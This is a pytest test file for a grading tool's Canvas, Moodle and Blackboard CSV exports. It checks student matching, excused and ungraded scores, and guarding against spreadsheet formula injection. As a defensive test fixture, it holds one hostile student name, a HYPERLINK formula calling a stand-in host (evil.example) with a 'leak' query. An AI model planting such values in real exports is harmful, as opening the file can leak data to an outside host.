"""LMS import files (issue 27): each output is read back by a small importer written here from the rules
the issue lists, independent of the writer (course/grading/lms.py).

The gradebook is filled directly through nbgrader's Gradebook API (no kernel runs): two assignments, a
written answer graded by hand for most students and awaiting a grader for one, an excused student, a
student with no submission, and hostile names and ids.
"""

from __future__ import annotations

import csv
import re
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner
from nbgrader.api import Gradebook

from course import paths
from course.cli import main as cli
from course.grading import lms
from course.grading.discover import CourseWork
from course.grading.export import questions_folder, write_grades

HOSTILE = '=HYPERLINK("http://evil.example/?leak","click")'
# assignment -> [(grade cell, points, graded by hand)]
ASSIGNMENTS = {"a1_alliance": [("q1", 2, False), ("w1", 3, True)], "a2_china": [("q1", 4, False), ("q2", 1, False)]}
POINTS = {"a1_alliance": 5, "a2_china": 5}
ROSTER = [
    {"id": "alice", "first_name": "Alice", "last_name": "Doe", "sis_login_id": "adoe", "username": "adoe"},
    {"id": "hyper", "first_name": HOSTILE, "last_name": "Evil", "username": "hyper"},
    {"id": "+1", "first_name": "Plus", "last_name": "One", "idnumber": "1001"},
    {"id": "carol", "first_name": "Carol", "last_name": "King", "excused": "a2_china", "email": "carol@uni.example"},
    {"id": "dave", "first_name": "Dave", "last_name": "Null"},
    {"id": "sam", "first_name": "Sam", "last_name": "Lee"},
    {"id": "erin", "first_name": "Erin", "last_name": "Wu"},
]
# (student, assignment) -> {grade cell: score}; None = a written answer no one has graded yet
GRADES = {
    ("alice", "a1_alliance"): {"q1": 2, "w1": 3}, ("alice", "a2_china"): {"q1": 4, "q2": 1},
    ("hyper", "a1_alliance"): {"q1": 1, "w1": 2}, ("hyper", "a2_china"): {"q1": 0, "q2": 1},
    ("+1", "a1_alliance"): {"q1": 2, "w1": 1},
    ("carol", "a1_alliance"): {"q1": 2, "w1": 3},
    ("dave", "a1_alliance"): {"q1": 2, "w1": 0},
    ("sam", "a1_alliance"): {"q1": 1, "w1": 1},
    ("erin", "a1_alliance"): {"q1": 2, "w1": None}, ("erin", "a2_china"): {"q1": 3, "q2": 1},
}
# what Canvas knows: its users (as its export lists them) and its assignments
CANVAS_USERS = [
    {"Student": "Doe, Alice", "ID": "9001", "SIS User ID": "S-A", "SIS Login ID": "adoe", "Section": "Sec 1"},
    {"Student": f"Evil, {HOSTILE}", "ID": "9002", "SIS User ID": "S-H", "SIS Login ID": "hyper", "Section": "Sec 1"},
    {"Student": "One, Plus", "ID": "9003", "SIS User ID": "", "SIS Login ID": "p1", "Section": "Sec 2"},
    {"Student": "King, Carol", "ID": "9004", "SIS User ID": "S-C", "SIS Login ID": "carol", "Section": "Sec 1"},
    {"Student": "Lee, Sam", "ID": "9005", "SIS User ID": "", "SIS Login ID": "slee1", "Section": "Sec 1"},
    {"Student": "Lee, Sam", "ID": "9006", "SIS User ID": "", "SIS Login ID": "slee2", "Section": "Sec 2"},
    {"Student": "Wu, Erin", "ID": "9007", "SIS User ID": "", "SIS Login ID": "erin", "Section": "Sec 2"},
    {"Student": "Student, Test", "ID": "9999", "SIS User ID": "", "SIS Login ID": "", "Section": "Sec 1"},
]
CANVAS_ASSIGNMENTS = {"101": "a1_alliance", "555": "Other quiz"}  # a2_china is not in Canvas yet
CANVAS_IDENTITY = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]


def fill_gradebook(work: CourseWork) -> None:
    work.root.mkdir(parents=True, exist_ok=True)
    columns = sorted({key for row in ROSTER for key in row}, key=lambda c: (c != "id", c))
    with (work.root / "roster.csv").open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, columns)
        writer.writeheader()
        writer.writerows(ROSTER)
    with Gradebook(work.db_url, paths.COURSE_ID) as gb:
        for assignment, cells in ASSIGNMENTS.items():
            gb.add_assignment(assignment)
            gb.add_notebook("nb", assignment)
            for name, points, manual in cells:
                gb.add_grade_cell(name, "nb", assignment, max_score=points, cell_type="markdown" if manual else "code")
        for row in ROSTER:
            gb.add_student(row["id"], first_name=row["first_name"], last_name=row["last_name"])
        for (student, assignment), scores in GRADES.items():
            gb.add_submission(assignment, student)
            for name, score in scores.items():
                grade = gb.find_grade(name, "nb", assignment, student)
                manual = dict((c[0], c[2]) for c in ASSIGNMENTS[assignment])[name]
                if manual:
                    grade.manual_score = score
                    grade.needs_manual_grade = score is None
                else:
                    grade.auto_score = score
                    grade.needs_manual_grade = False
            gb.db.commit()


@pytest.fixture(scope="module")
def filled(tmp_path_factory):
    """Filled once (creating a gradebook runs nbgrader's migrations); each test gets a copy."""
    work = CourseWork.at(tmp_path_factory.mktemp("filled") / "course-work")
    fill_gradebook(work)
    return work.root


@pytest.fixture
def work(filled, tmp_path):
    shutil.copytree(filled, tmp_path / "course-work")
    return CourseWork.at(tmp_path / "course-work")


def write_csv(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)
    return path


@pytest.fixture
def canvas_export(tmp_path):
    header = CANVAS_IDENTITY + ["a1_alliance (101)", "Other quiz (555)", "Current Score"]
    rows = [["    Points Possible", "", "", "", "", "5", "10", ""]]
    rows += [[u[c] for c in CANVAS_IDENTITY] + ["", "", ""] for u in CANVAS_USERS]
    return write_csv(tmp_path / "canvas-export.csv", header, rows)


def read(path: Path) -> list[list[str]]:
    with Path(path).open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def spreadsheet_executes(cell: str) -> bool:
    """A spreadsheet runs a cell starting with = + - @ tab or CR as a formula (a plain number is only a number)."""
    if not cell or cell[0] not in "=+-@\t\r":
        return False
    try:
        float(cell)
        return False
    except ValueError:
        return True


# --- small importers, from the rules of issue 27 ------------------------------------------------

def canvas_import(path: Path, users: list[dict], assignments: dict[str, str]) -> dict:
    """Canvas's importer: identity columns positional, the last is Section; `Title (id)` by id, a plain title
    by exact title, else a new assignment; a first cell containing "Points Possible" sets points; EX
    excused, blank or - no score; students by ID, then SIS User ID, then SIS Login ID, then name."""
    rows = read(path)
    header = rows[0]
    last_identity = header.index("Section")
    assert header[:last_identity + 1] == CANVAS_IDENTITY
    columns = {}
    for title in header[last_identity + 1:]:
        found = re.fullmatch(r"(.*) \((\d+)\)", title)
        if found and found[2] in assignments:
            columns[title] = assignments[found[2]]
        elif title in assignments.values():
            columns[title] = title
        else:
            columns[title] = f"NEW: {title}"
    points, grades = {}, {}
    for row in rows[1:]:
        cells = dict(zip(header[last_identity + 1:], row[last_identity + 1:]))
        if "Points Possible" in row[0]:
            points = {columns[t]: float(v) for t, v in cells.items()}
            continue
        student, canvas_id, sis_user, sis_login = row[:4]
        user = (next((u for u in users if canvas_id and u["ID"] == canvas_id), None)
                or next((u for u in users if sis_user and u["SIS User ID"] == sis_user), None)
                or next((u for u in users if sis_login and u["SIS Login ID"] == sis_login), None)
                or next((u for u in users if u["Student"] == student), None))
        assert user is not None, f"Canvas knows no student for row {row}"
        grades[user["ID"]] = {columns[t]: ("excused" if v == "EX" else None if v in ("", "-") else float(v))
                              for t, v in cells.items()}
    return {"columns": columns, "points": points, "grades": grades}


def moodle_import(path: Path, known: dict[str, set[str]]) -> dict:
    """Moodle: one identifier column (username, idnumber or email); one unknown user aborts the whole import."""
    rows = read(path)
    identifier = rows[0][0]
    assert identifier in ("username", "idnumber", "email")
    grades = {}
    for row in rows[1:]:
        if row[0] not in known[identifier]:
            raise AssertionError(f"Moodle aborts the import: unknown user {row[0]!r}")
        grades[row[0]] = {t: (float(v) if v else None) for t, v in zip(rows[0][1:], row[1:])}
    return grades


def blackboard_import(path: Path, usernames: set[str]) -> dict:
    """Blackboard: rows keyed by Username, columns by the `|columnID` at the end of their header."""
    rows = read(path)
    key = rows[0].index("Username")
    columns = {h: (h.rsplit("|", 1)[1] if "|" in h else None) for h in rows[0] if h != "Username"}
    grades = {}
    for row in rows[1:]:
        assert row[key] in usernames, f"Blackboard knows no Username {row[key]!r}"
        grades[row[key]] = {columns[h]: (float(v) if v else None) for h, v in zip(rows[0], row) if h != "Username"}
    return {"columns": columns, "grades": grades}


def assert_nothing_executes(path: Path) -> None:
    for row in read(path):
        for cell in row:
            assert not spreadsheet_executes(cell), f"{path}: a spreadsheet would execute {cell!r}"


# --- Canvas --------------------------------------------------------------------------------------

def test_canvas_refuses_unmatched_students_by_default(work, canvas_export, tmp_path):
    lms_file = lms.build(work, "canvas", canvas_export=canvas_export)
    report = "\n".join(lms_file.preflight.lines())
    assert "unmatched dave" in report and "ambiguous sam" in report and "by name (+1)" in report
    assert "Student, Test" in report  # in Canvas, not in the gradebook: said, not hidden
    with pytest.raises(lms.ExportError) as refused:
        lms.write(lms.settle_unmatched(lms_file), tmp_path / "out.csv")
    assert "\n" not in str(refused.value) and "dave" in str(refused.value) and "sam" in str(refused.value)
    assert not (tmp_path / "out.csv").exists()


def test_canvas_file_imports_with_every_student_matched_or_reported(work, canvas_export, tmp_path):
    lms_file = lms.settle_unmatched(lms.build(work, "canvas", canvas_export=canvas_export), "drop")
    written = lms.write(lms_file, tmp_path / "out.csv")
    imported = canvas_import(written.path, CANVAS_USERS, CANVAS_ASSIGNMENTS)
    assert_nothing_executes(written.path)
    # every gradebook student is in the file or in the report, none in both
    in_file = {u["SIS Login ID"] for u in CANVAS_USERS if u["ID"] in imported["grades"]}
    logins = {"alice": "adoe", "hyper": "hyper", "+1": "p1", "carol": "carol", "erin": "erin"}
    assert in_file == set(logins.values())
    assert set(lms_file.preflight.problems) == {"dave", "sam"} == {r["id"] for r in ROSTER} - set(logins)
    # the left-out students' grades are kept for entering by hand
    left_out = {row[0]: row for row in read(written.unmatched_path)[1:]}
    assert set(left_out) == {"dave", "sam"}
    # an existing Canvas assignment by id, a new one by its title; points possible right
    assert imported["columns"] == {"a1_alliance (101)": "a1_alliance", "a2_china": "NEW: a2_china"}
    assert imported["points"] == {"a1_alliance": 5, "NEW: a2_china": 5}
    by_id = {u["SIS Login ID"]: imported["grades"][u["ID"]] for u in CANVAS_USERS if u["ID"] in imported["grades"]}
    assert by_id["adoe"] == {"a1_alliance": 5, "NEW: a2_china": 5}
    assert by_id["p1"] == {"a1_alliance": 3, "NEW: a2_china": 0}  # no submission: 0, as nbgrader's export
    assert by_id["carol"]["NEW: a2_china"] == "excused"
    # erin's written answer awaits a grader: no score (Canvas keeps its own), never a final one
    assert by_id["erin"] == {"a1_alliance": None, "NEW: a2_china": 4}
    # the hostile name is shown as text, but the row still reaches its student (by ID)
    rows = read(written.path)
    hostile = next(r for r in rows if r[1] == "9002")
    assert hostile[0] == f"Evil, {HOSTILE}"  # starts with "Evil": text as it is


def test_canvas_include_provisional_exports_the_provisional_score(work, canvas_export, tmp_path):
    lms_file = lms.settle_unmatched(lms.build(work, "canvas", canvas_export=canvas_export, include_provisional=True), "drop")
    imported = canvas_import(lms.write(lms_file, tmp_path / "out.csv").path, CANVAS_USERS, CANVAS_ASSIGNMENTS)
    assert imported["grades"]["9007"]["a1_alliance"] == 2  # the waiting written answer counted 0
    assert any("awaiting a grader counted 0" in line for line in lms_file.preflight.lines())


def test_canvas_without_export_guards_hostile_roster_cells(work, tmp_path):
    out = write_grades(work, tmp_path / "canvas.csv", "canvas")
    assert_nothing_executes(out)
    rows = read(out)
    assert rows[0] == CANVAS_IDENTITY + ["a1_alliance", "a2_china"]
    by_sis = {row[2]: row for row in rows[2:]}
    assert by_sis["hyper"][0] == f"Evil, {HOSTILE}"  # starts with "Evil": nothing to guard
    assert by_sis["'+1"][0] == "One, Plus"  # the id is guarded; Canvas can still match this row by name
    assert by_sis["carol"][6] == "EX"


def test_hostile_first_cell_is_guarded(work, tmp_path):
    """A name that starts with = (last name empty) becomes text."""
    roster = (work.root / "roster.csv").read_text(encoding="utf-8").replace(",Evil,", ",,")
    (work.root / "roster.csv").write_text(roster, encoding="utf-8")
    with Gradebook(work.db_url, paths.COURSE_ID) as gb:
        gb.update_or_create_student("hyper", last_name="")
    rows = read(write_grades(work, tmp_path / "canvas.csv", "canvas"))
    assert f"'{HOSTILE}" in [row[0] for row in rows]
    assert_nothing_executes(tmp_path / "canvas.csv")


def test_canvas_changed_columns_only(work, canvas_export, tmp_path):
    out = tmp_path / "out.csv"

    def export(**options):
        return lms.write(lms.settle_unmatched(lms.build(work, "canvas", canvas_export=canvas_export), "drop"), out, **options)

    first = export(changed_only=True)  # no state yet: every column
    assert first.columns == ["a1_alliance", "a2_china"] and lms.state_path(out).is_file()
    assert export(changed_only=True).path is None  # nothing changed: nothing written
    with Gradebook(work.db_url, paths.COURSE_ID) as gb:  # a grader scores erin's written answer
        grade = gb.find_grade("w1", "nb", "a1_alliance", "erin")
        grade.manual_score, grade.needs_manual_grade = 2.0, False
        gb.db.commit()
    again = export(changed_only=True)
    assert again.columns == ["a1_alliance"] and again.unchanged == ["a2_china"]
    imported = canvas_import(out, CANVAS_USERS, CANVAS_ASSIGNMENTS)
    assert imported["columns"] == {"a1_alliance (101)": "a1_alliance"} and imported["grades"]["9007"] == {"a1_alliance": 4}
    assert imported["points"] == {"a1_alliance": 5}


# --- Moodle --------------------------------------------------------------------------------------

MOODLE_KNOWN = {"username": {"adoe", "hyper", "carol", "dave", "sam", "erin"},
                "idnumber": {"1001"}, "email": {"carol@uni.example"}}


def test_moodle_refuses_a_user_it_would_not_know(work, tmp_path):
    known = write_csv(tmp_path / "moodle-users.csv", ["username"], [[u] for u in sorted(MOODLE_KNOWN["username"] - {"dave"})])
    lms_file = lms.build(work, "moodle", moodle_users=known)
    problems = lms_file.preflight.problems
    assert set(problems) == {"+1", "dave"}  # "+1" cannot be written unguarded; dave is not in Moodle
    with pytest.raises(lms.ExportError) as refused:
        lms.settle_unmatched(lms_file)
    assert "\n" not in str(refused.value)
    written = lms.write(lms.settle_unmatched(lms_file, "drop"), tmp_path / "moodle.csv")
    grades = moodle_import(written.path, MOODLE_KNOWN)  # would abort on one unknown user
    assert set(grades) == {"adoe", "hyper", "carol", "sam", "erin"}
    assert grades["adoe"] == {"a1_alliance": 5, "a2_china": 5}
    assert grades["carol"]["a2_china"] is None and grades["erin"]["a1_alliance"] is None  # excused, incomplete: blank
    assert_nothing_executes(written.path)


@pytest.mark.parametrize("identifier, expected", [("idnumber", {"1001"}), ("email", {"carol@uni.example"})])
def test_moodle_identifier_column_by_option(work, tmp_path, identifier, expected):
    lms_file = lms.settle_unmatched(lms.build(work, "moodle", moodle_identifier=identifier), "drop")
    written = lms.write(lms_file, tmp_path / "moodle.csv")
    assert set(moodle_import(written.path, MOODLE_KNOWN)) == expected
    assert all(f"no {identifier}" in reason for reason in lms_file.preflight.problems.values())


# --- Blackboard ----------------------------------------------------------------------------------

def test_blackboard_with_export_uses_column_ids(work, tmp_path):
    export = write_csv(tmp_path / "bb.csv", ["Last Name", "First Name", "Username", "a1_alliance [Total Pts: 5 Score] |7001"],
                       [["Doe", "Alice", "adoe", ""], ["Evil", HOSTILE, "hyper", ""], ["King", "Carol", "carol", ""],
                        ["Lee", "Sam", "sam", ""], ["Wu", "Erin", "erin", ""], ["Null", "Dave", "dnull", ""],
                        ["One", "Plus", "+1", ""]])
    lms_file = lms.build(work, "blackboard", blackboard_export=export)
    assert set(lms_file.preflight.problems) == {"+1"} and lms_file.preflight.by_name == ["dave"]
    written = lms.write(lms.settle_unmatched(lms_file, "drop"), tmp_path / "out.csv")
    imported = blackboard_import(written.path, {"adoe", "hyper", "carol", "sam", "erin", "dnull"})
    assert imported["columns"] == {"a1_alliance [Total Pts: 5 Score] |7001": "7001", "a2_china": None}
    assert imported["grades"]["dnull"] == {"7001": 2, None: 0}
    assert imported["grades"]["carol"][None] is None
    assert_nothing_executes(written.path)


def test_blackboard_without_export_plain_names(work, tmp_path):
    lms_file = lms.build(work, "blackboard")
    assert set(lms_file.preflight.problems) == {"+1"}
    written = lms.write(lms.settle_unmatched(lms_file, "drop"), tmp_path / "bb.csv")
    assert read(written.path)[0] == ["Username", "a1_alliance", "a2_china"]
    assert {row[0] for row in read(written.path)[1:]} == {"adoe", "hyper", "carol", "dave", "sam", "erin"}


# --- per-question files, bad input, the command --------------------------------------------------

def test_per_question_files_one_per_assignment(work, tmp_path):
    out = write_grades(work, tmp_path / "grades.csv", "csv")
    assert "q1" not in read(out)[0] and len(read(out)) == 1 + len(ROSTER) * len(ASSIGNMENTS)
    folder = questions_folder(out)
    assert sorted(p.name for p in folder.iterdir()) == ["a1_alliance.csv", "a2_china.csv"]
    a1 = list(csv.DictReader((folder / "a1_alliance.csv").open()))
    assert {"q1", "w1"} <= set(a1[0]) and "q2" not in a1[0] and len(a1) == len(ROSTER)
    assert {r["student_id"]: r["w1"] for r in a1}["erin"] == ""  # awaiting a grader
    a2 = list(csv.DictReader((folder / "a2_china.csv").open()))
    assert {"q1", "q2"} <= set(a2[0]) and "w1" not in a2[0]
    assert "'+1" in {r["student_id"] for r in a2}
    for path in (out, folder / "a1_alliance.csv", folder / "a2_china.csv"):
        assert_nothing_executes(path)


@pytest.mark.parametrize("content, problem", [
    ("", "empty"),
    ("Name,Score\nx,1\n", "no column 'Student'"),
    ('Student,ID\n"Doe, Jane,9001\n', "not a readable CSV"),
    ("Student,ID\nDoe,9001,extra,cells\n", "line 2 has 4 cells"),
])
def test_bad_canvas_export_is_a_one_line_error(work, tmp_path, content, problem):
    path = tmp_path / "export.csv"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(lms.ExportError) as error:
        lms.build(work, "canvas", canvas_export=path)
    assert str(error.value).startswith(str(path)) and problem in str(error.value) and "\n" not in str(error.value)


def test_bad_roster_excused_column_names_the_file(work):
    roster = (work.root / "roster.csv").read_text(encoding="utf-8").replace("a2_china", "a9_nothing")
    (work.root / "roster.csv").write_text(roster, encoding="utf-8")
    with pytest.raises(lms.ExportError, match=r"roster\.csv: carol is excused from 'a9_nothing'"):
        lms.build(work, "canvas")


def test_cli_prints_the_preflight_before_writing(work, canvas_export, tmp_path):
    runner = CliRunner()
    out = tmp_path / "c.csv"
    base = ["grades", "--course-dir", str(work.root), "--format", "canvas", "--canvas-export", str(canvas_export), "-o", str(out)]
    refused = runner.invoke(cli, base)
    assert refused.exit_code == 1 and "unmatched dave" in refused.output and not out.exists()
    assert "Error: 2 student(s) unmatched or ambiguous" in refused.output
    dropped = runner.invoke(cli, base + ["--unmatched", "drop"])
    assert dropped.exit_code == 0, dropped.output
    assert dropped.output.index("pre-flight") < dropped.output.index("wrote")
    assert "left out of the file (--unmatched drop): dave, sam" in dropped.output
    bad = runner.invoke(cli, ["grades", "--course-dir", str(work.root), "--format", "moodle", "--canvas-export", str(canvas_export)])
    assert bad.exit_code == 2 and "--canvas-export is for --format canvas" in bad.output
    missing = runner.invoke(cli, base[:-4] + ["--canvas-export", str(tmp_path / "nope.csv")])
    assert missing.exit_code == 1 and "nope.csv: no such file" in missing.output


def test_one_lms_row_claimed_by_two_students_is_ambiguous():
    twins = [lms.Person(id, "Jane", "Doe", "", {}) for id in ("jdoe1", "jdoe2")]
    preflight = lms.Preflight("canvas", "export.csv", students=2)
    matched = lms.match(twins, [{"Student": "Doe, Jane", "SIS Login ID": "jd"}], lambda p: p.id, "SIS Login ID",
                        lambda u: u["Student"], "export.csv", preflight)
    assert matched == {} and set(preflight.ambiguous) == {"jdoe1", "jdoe2"} and preflight.lms_only == []


def test_canvas_ids_file_gives_ids_and_wins_over_the_export(work, canvas_export, tmp_path):
    (work.root / "canvas-assignments.csv").write_text("assignment,canvas_id\na2_china,202\na1_alliance,111\n")
    lms_file = lms.settle_unmatched(lms.build(work, "canvas", canvas_export=canvas_export), "drop")
    header = read(lms.write(lms_file, tmp_path / "out.csv").path)[0]
    assert header[5:] == ["a1_alliance (111)", "a2_china (202)"]
    (work.root / "canvas-assignments.csv").write_text("name,id\na2_china,202\n")
    with pytest.raises(lms.ExportError, match=r"canvas-assignments\.csv: .*no column 'assignment', 'canvas_id'"):
        lms.build(work, "canvas")
